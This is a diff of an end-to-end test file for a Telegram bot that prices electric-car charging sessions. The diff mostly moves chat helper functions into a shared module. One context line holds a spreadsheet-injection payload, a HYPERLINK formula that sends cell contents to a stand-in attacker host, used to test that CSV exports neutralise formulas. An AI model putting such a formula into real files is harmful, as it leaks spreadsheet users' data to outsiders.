@@ -18,7 +18,8 @@ from bot.persistence.costs import SqlCostStore
 from bot.persistence.history import SqlHistoryRepository
 from bot.services.errors import InvalidInput
 from bot.simulator.telegram import EmulatedUser
-from tests.e2e.harness import E2E, EMAIL, PASSWORD, login, running_e2e, texts
+from tests.e2e.harness import E2E, EMAIL, PASSWORD, login, running_e2e
+from tests.support.chat import send_and_wait, text_of, texts
 
 WAIT = 10.0
 VIN = "VF1AG000012345678"
@@ -30,25 +31,13 @@ OCTOBER = datetime(2026, 10, 5, 10, 0, tzinfo=UTC)
 HOSTILE_PLATE = '=HYPERLINK("https://attacker.example/?"&A1,"AB-123-CD")'
 
 
-async def _send_and_wait(user: EmulatedUser, command: str) -> int:
-    before = len(user.bot_messages)
-    await user.send(command)
-    await user.wait_until(lambda u: len(u.bot_messages) > before, timeout=WAIT)
-    return user.bot_messages[-1].message_id
-
-
-def _text(user: EmulatedUser, message_id: int) -> str:
-    message = user.message(message_id)
-    return (message.text or "") if message is not None else ""
-
-
 async def _linked(e2e: E2E, plate: str | None = None) -> tuple[EmulatedUser, int]:
     account = e2e.sim.add_account(EMAIL, PASSWORD)
     e2e.sim.add_vehicle(account, "X102VE", vin=VIN, battery_level=40, plate=plate)
     ann = e2e.emulator.user(CHAT, "Ann")
     await login(ann, EMAIL, PASSWORD)
     await ann.wait_until(lambda u: any(t.startswith("Linked!") for t in texts(u)), timeout=WAIT)
-    await _send_and_wait(ann, "/smarttariff fixed 0.30 0.10 22:00 06:00")
+    await send_and_wait(ann, "/smarttariff fixed 0.30 0.10 22:00 06:00")
     assert e2e.core is not None
     # These figures are worked out in UTC: the chat leaves its login country's zone (Europe/London).
     settings = await e2e.core.settings.chat(CHAT, "en")
@@ -100,8 +89,8 @@ async def test_costs_prices_each_session_with_the_tariff_and_shows_the_savings(t
         assert night.plugged_at == PLUGGED
         assert night.place is Place.HOME
 
-        history = await _send_and_wait(ann, "/history")
-        assert "2.31 EUR" in _text(ann, history) or any("2.31 EUR" in t for t in texts(ann)[-3:])
+        history = await send_and_wait(ann, "/history")
+        assert "2.31 EUR" in text_of(ann, history) or any("2.31 EUR" in t for t in texts(ann)[-3:])
 
 
 async def test_export_sends_a_csv_that_parses_back_to_the_stored_sessions(tmp_path: Path) -> None:
@@ -109,7 +98,7 @@ async def test_export_sends_a_csv_that_parses_back_to_the_stored_sessions(tmp_pa
         # A plate is typed by the owner in MyRenault: as a formula it must reach the spreadsheet as text.
         ann, vehicle_id = await _linked(e2e, plate=HOSTILE_PLATE)
         await _store_history(e2e, vehicle_id)
-        ask = await _send_and_wait(ann, "/export")
+        ask = await send_and_wait(ann, "/export")
         before = len(ann.bot_messages)
         await ann.tap(ask, "Everything stored")
         await ann.wait_until(
@@ -194,8 +183,8 @@ async def _asked_for_an_away_price(e2e: E2E) -> tuple[EmulatedUser, datetime]:
     await history.add_session(ChargeSession(vehicle_id, start, None, 20, 30, None))
     assert await e2e.core.costs.capture_places() == 1
     await history.add_session(ChargeSession(vehicle_id, start, start + timedelta(hours=1), 20, 60, 20.8))
-    shown = await _send_and_wait(ann, "/history")
-    assert "away from home" in _text(ann, shown)
+    shown = await send_and_wait(ann, "/history")
+    assert "away from home" in text_of(ann, shown)
     await ann.tap(shown, "💶 Price 20 Nov, 09:00")
     await ann.wait_until(lambda u: "send its price per kWh" in (u.bot_messages[-1].text or ""), timeout=WAIT)
     return ann, start
@@ -210,13 +199,13 @@ async def test_an_away_charge_is_priced_by_a_typed_price_after_bad_inputs(tmp_pa
             ("-0.2", "A price cannot be negative."),
             ("7", "That looks like a typo"),
         ):
-            reply = await _send_and_wait(ann, bad)
-            assert _text(ann, reply).startswith(answer)
+            reply = await send_and_wait(ann, bad)
+            assert text_of(ann, reply).startswith(answer)
         stored = await SqlCostStore(e2e.db, e2e.cipher).costs(CHAT, start, NOW)
         assert stored[0].cost is None  # nothing stored wrong
-        saved = await _send_and_wait(ann, "0,45")
+        saved = await send_and_wait(ann, "0,45")
         # 20.8 kWh / 0.9 = 23.111111 kWh at 0.45
-        assert _text(ann, saved) == "Saved: that charge cost 10.40 EUR."
+        assert text_of(ann, saved) == "Saved: that charge cost 10.40 EUR."
         stored = await SqlCostStore(e2e.db, e2e.cipher).costs(CHAT, start, NOW)
         assert stored[0].cost == Decimal("10.400000")
         assert stored[0].place is Place.AWAY
@@ -236,17 +225,17 @@ async def test_home_and_costs_settings_by_buttons_and_the_summary_switched_off(t
     async with running_e2e(tmp_path, start=NOW) as e2e:
         ann, vehicle_id = await _linked(e2e)
         await _store_history(e2e, vehicle_id)
-        menu = await _send_and_wait(ann, "/settings")
+        menu = await send_and_wait(ann, "/settings")
         await ann.tap(menu, "🏠 Home & costs")
-        await ann.wait_until(lambda u: "Home: not set" in _text(u, menu), timeout=WAIT)
+        await ann.wait_until(lambda u: "Home: not set" in text_of(u, menu), timeout=WAIT)
         await ann.tap(menu, "🚗 Car's position is home")
-        await ann.wait_until(lambda u: "Home: set, radius 150 m" in _text(u, menu), timeout=WAIT)
+        await ann.wait_until(lambda u: "Home: set, radius 150 m" in text_of(u, menu), timeout=WAIT)
         await ann.tap(menu, "Radius 150 m")
-        await ann.wait_until(lambda u: "Home: set, radius 300 m" in _text(u, menu), timeout=WAIT)
+        await ann.wait_until(lambda u: "Home: set, radius 300 m" in text_of(u, menu), timeout=WAIT)
         await ann.tap(menu, "Loss 10%")
-        await ann.wait_until(lambda u: "Charging loss: 15%" in _text(u, menu), timeout=WAIT)
+        await ann.wait_until(lambda u: "Charging loss: 15%" in text_of(u, menu), timeout=WAIT)
         await ann.tap(menu, "Monthly summary: on")
-        await ann.wait_until(lambda u: "Monthly summary (1st, 09:00): off" in _text(u, menu), timeout=WAIT)
+        await ann.wait_until(lambda u: "Monthly summary (1st, 09:00): off" in text_of(u, menu), timeout=WAIT)
         assert e2e.core is not None
         settings = await e2e.core.costs.settings(CHAT)
         assert settings.home is not None
@@ -260,16 +249,16 @@ async def test_a_running_login_takes_the_text_before_a_pending_price_question(tm
     async with running_e2e(tmp_path, start=NOW) as e2e:
         ann, start = await _asked_for_an_away_price(e2e)
         assert e2e.core is not None
-        countries = ann.message(await _send_and_wait(ann, "/login"))
+        countries = ann.message(await send_and_wait(ann, "/login"))
         assert countries is not None
         await ann.tap(countries, countries.buttons[0].text)
         ask = "Send me the e-mail address of your MyRenault account."
         await ann.wait_until(lambda u: (u.bot_messages[-1].text or "") == ask, timeout=WAIT)
-        asked = await _send_and_wait(ann, "0.45")  # the login asked for an e-mail: this is not a price now
-        assert _text(ann, asked) == "That does not look like an e-mail address. Please send it again."
+        asked = await send_and_wait(ann, "0.45")  # the login asked for an e-mail: this is not a price now
+        assert text_of(ann, asked) == "That does not look like an e-mail address. Please send it again."
         assert await e2e.core.costs.awaiting_price(CHAT) is not None
         stored = await SqlCostStore(e2e.db, e2e.cipher).costs(CHAT, start, NOW)
         assert stored[0].cost is None
-        await _send_and_wait(ann, "/cancel")
-        saved = await _send_and_wait(ann, "0.45")
-        assert _text(ann, saved) == "Saved: that charge cost 10.40 EUR."
+        await send_and_wait(ann, "/cancel")
+        saved = await send_and_wait(ann, "0.45")
+        assert text_of(ann, saved) == "Saved: that charge cost 10.40 EUR."
